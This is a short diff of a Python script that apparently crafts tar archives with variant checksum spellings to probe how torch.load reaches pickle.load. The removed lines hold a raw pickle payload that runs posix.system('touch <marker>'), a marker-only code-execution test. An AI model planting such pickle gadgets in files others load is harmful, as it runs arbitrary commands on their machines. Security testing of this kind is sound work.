@@ -7,8 +7,7 @@ the first header's name field, a benign pickle.  torch.load tries tarfile first 
 file, finds member 'storages' and pickle.load()s it.
 Usage: tar_chksum_spelling.py OUT MARKER [0o|plus|underscore|tab|nul]"""
 import sys
-def payload(marker):
-    return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
+from tarblocks import payload
 def header(name, size, style=None, magic=True):
     h = bytearray(512)
     h[0:len(name)] = name
